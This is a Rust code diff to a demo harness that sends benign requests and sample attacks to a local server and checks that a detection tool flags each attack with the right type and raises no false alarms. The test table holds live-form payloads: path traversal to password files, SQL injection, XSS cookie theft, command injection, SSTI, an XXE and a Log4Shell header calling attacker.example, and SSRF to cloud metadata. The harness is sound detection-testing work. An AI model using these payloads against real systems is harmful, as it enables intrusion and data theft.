@@ -38,52 +38,123 @@ enum Via {
     Http2Tls,
 }
 
-/// Requests the demo sends: (label, how, path, is an attack).
-const TRAFFIC: &[(&str, Via, &str, bool)] = &[
-    ("home page", Via::Http1, "/", false),
-    (
-        "API lookup",
-        Via::Http1,
-        "/api/users?id=42&sort=name",
-        false,
-    ),
-    (
+/// A request the demo sends.
+struct Probe {
+    label: &'static str,
+    via: Via,
+    path: &'static str,
+    /// An extra request header, `Name: value`.
+    header: Option<&'static str>,
+    /// Sent as a POST body with this content type.
+    body: Option<(&'static str, &'static str)>,
+    /// The attack type its event must have; `None`: benign, no event expected.
+    expect: Option<&'static str>,
+}
+
+const fn get(label: &'static str, via: Via, path: &'static str) -> Probe {
+    Probe {
+        label,
+        via,
+        path,
+        header: None,
+        body: None,
+        expect: None,
+    }
+}
+
+impl Probe {
+    const fn attack(mut self, kind: &'static str) -> Self {
+        self.expect = Some(kind);
+        self
+    }
+    const fn header(mut self, h: &'static str) -> Self {
+        self.header = Some(h);
+        self
+    }
+    const fn post(mut self, content_type: &'static str, body: &'static str) -> Self {
+        self.body = Some((content_type, body));
+        self
+    }
+}
+
+/// What the demo sends: benign requests (no event expected) and one attack of each common type.
+const TRAFFIC: &[Probe] = &[
+    get("home page", Via::Http1, "/"),
+    get("API lookup", Via::Http1, "/api/users?id=42&sort=name"),
+    get(
         "search with prose",
         Via::Http1,
         "/search?q=how+to+select+a+good+password+from+a+list",
-        false,
     ),
-    (
-        "API over HTTP/2 + TLS",
-        Via::Http2Tls,
-        "/api/orders?limit=20",
-        false,
+    get("JSON order", Via::Http1, "/api/orders").post(
+        "application/json",
+        r#"{"item":"O'Reilly: SQL in a nutshell","qty":2,"note":"ring & wait"}"#,
     ),
-    ("absolute path", Via::Http1, "/etc/passwd", true),
-    (
+    get("API over HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=20"),
+    get("absolute path", Via::Http1, "/etc/passwd").attack("ptrav"),
+    get(
         "encoded traversal",
         Via::Http1,
         "/static/..%2f..%2f..%2fetc%2fpasswd",
-        true,
-    ),
-    (
+    )
+    .attack("ptrav"),
+    get(
         "double-encoded traversal",
         Via::Http1,
         "/download?file=..%252f..%252f..%252fetc%252fshadow",
-        true,
-    ),
-    (
+    )
+    .attack("ptrav"),
+    get(
         "windows file",
         Via::Http1,
         "/view?page=c:%5cwindows%5cwin.ini",
-        true,
-    ),
-    (
+    )
+    .attack("ptrav"),
+    get(
         "traversal over HTTP/2 + TLS",
         Via::Http2Tls,
         "/files?name=....//....//etc/passwd",
-        true,
-    ),
+    )
+    .attack("ptrav"),
+    get(
+        "SQL injection",
+        Via::Http1,
+        "/api/users?id=42%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+    )
+    .attack("sqli"),
+    get("XSS in a form", Via::Http1, "/comments")
+        .post(
+            "application/x-www-form-urlencoded",
+            "author=eve&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+        )
+        .attack("xss"),
+    get(
+        "command injection",
+        Via::Http1,
+        "/tools/ping?host=127.0.0.1%3Bid%3Buname%20-a",
+    )
+    .attack("rce"),
+    get("template injection (JSON)", Via::Http1, "/api/render")
+        .post(
+            "application/json",
+            r#"{"greeting":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#,
+        )
+        .attack("ssti"),
+    get("XXE (XML)", Via::Http1, "/api/import")
+        .post(
+            "application/xml",
+            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>"#,
+        )
+        .attack("xxe"),
+    get(
+        "SSRF to cloud metadata",
+        Via::Http1,
+        "/fetch?url=http://169.254.169.254/latest/meta-data/",
+    )
+    .attack("ssrf"),
+    get("Log4Shell header, HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=5")
+        .header("User-Agent: ${jndi:ldap://attacker.example:1389/a}")
+        .attack("java_injection"),
 ];
 
 struct Procs(Vec<(String, Child)>);
@@ -293,7 +364,7 @@ pub fn run(o: Options) -> anyhow::Result<()> {
     let started = Instant::now();
     let tls_base = format!("https://127.0.0.1:{tls_port}");
     println!("(HTTP/1.1 to {base}, HTTP/2 over TLS to {tls_base})");
-    for (label, via, path, attack) in TRAFFIC {
+    for p in TRAFFIC {
         let mut curl = Command::new("curl");
         curl.args([
             "-s",
@@ -303,7 +374,15 @@ pub fn run(o: Options) -> anyhow::Result<()> {
             "-w",
             "%{http_code}",
         ]);
-        match via {
+        if let Some(h) = p.header {
+            curl.args(["-H", h]);
+        }
+        if let Some((content_type, body)) = p.body {
+            curl.args(["-H", &format!("Content-Type: {content_type}")])
+                .args(["--data-binary", body]);
+        }
+        let path = p.path;
+        match p.via {
             Via::Http1 => curl.arg(format!("{base}{path}")),
             Via::Http2Tls => curl
                 .args(["-k", "--http2"])
@@ -311,33 +390,57 @@ pub fn run(o: Options) -> anyhow::Result<()> {
         };
         let out = sh::output(&mut curl);
         println!(
-            "  {:<28} {:<55} -> HTTP {}{}",
-            label,
-            path,
+            "  {:<31} {:<4} {:<52} -> HTTP {}{}",
+            p.label,
+            if p.body.is_some() { "POST" } else { "GET" },
+            shorten(path, 52),
             out.unwrap_or_else(|| "failed".into()),
-            if *attack { "  (attack)" } else { "" }
+            p.expect.map(|k| format!("  ({k})")).unwrap_or_default()
         );
     }
-    let attacks = TRAFFIC.iter().filter(|t| t.3).count();
+    let attacks = TRAFFIC.iter().filter(|p| p.expect.is_some()).count();
     let events_cmd = || {
         let mut c = Command::new(bin.join("wallarm-oob-processing"));
         c.args(["events", "--data-dir", &data.display().to_string()]);
         c
     };
+    // Wait until every attack has its event (of the expected type, on its URI).
     let deadline = Instant::now() + Duration::from_secs(20);
-    let mut seen = 0;
-    while Instant::now() < deadline {
-        seen = sh::output(events_cmd().arg("--json"))
-            .map(|s| s.lines().count())
-            .unwrap_or(0);
-        if seen >= attacks {
+    let (mut missed, mut alarms): (Vec<&Probe>, Vec<&Probe>);
+    loop {
+        let events: Vec<(String, String)> = sh::output(events_cmd().arg("--json"))
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+            .map(|v| {
+                let field = |k: &str| v[k].as_str().unwrap_or_default().to_owned();
+                (field("attack"), field("uri"))
+            })
+            .collect();
+        let has = |p: &Probe, kind: Option<&str>| {
+            events
+                .iter()
+                .any(|(a, u)| u == p.path && kind.is_none_or(|k| a == k))
+        };
+        (missed, alarms) = (Vec::new(), Vec::new());
+        for p in TRAFFIC {
+            match p.expect {
+                Some(kind) if !has(p, Some(kind)) => missed.push(p),
+                None if has(p, None) => alarms.push(p),
+                _ => {}
+            }
+        }
+        if missed.is_empty() || Instant::now() > deadline {
             break;
         }
         std::thread::sleep(Duration::from_millis(200));
     }
     println!(
-        "\nDetected events ({seen} of {attacks} attacks, {:.1?} after the first request):\n",
-        started.elapsed()
+        "\nDetected {} of {attacks} attacks with the expected type, {:.1?} after the first request; \
+         false alarms on benign requests: {}\n",
+        attacks - missed.len(),
+        started.elapsed(),
+        alarms.len()
     );
     sh::run(&mut events_cmd())?;
     println!("\nGrouped into attacks (type + host + path + point):\n");
@@ -367,11 +470,24 @@ pub fn run(o: Options) -> anyhow::Result<()> {
     }
     drop(procs);
     let _ = std::fs::remove_dir(&cgroup);
-    if seen < attacks {
+    if !missed.is_empty() || !alarms.is_empty() {
+        let labels = |ps: &[&Probe]| ps.iter().map(|p| p.label).collect::<Vec<_>>().join(", ");
         anyhow::bail!(
-            "only {seen} of {attacks} attacks were detected; logs in {}",
+            "missed attacks: [{}]; false alarms: [{}]; logs in {}",
+            labels(&missed),
+            labels(&alarms),
             logs.display()
         );
     }
     Ok(())
+}
+
+/// `s` cut to `n` characters for the table (`…` marks the cut).
+fn shorten(s: &str, n: usize) -> String {
+    if s.chars().count() <= n {
+        return s.to_owned();
+    }
+    let mut out: String = s.chars().take(n - 1).collect();
+    out.push('…');
+    out
 }
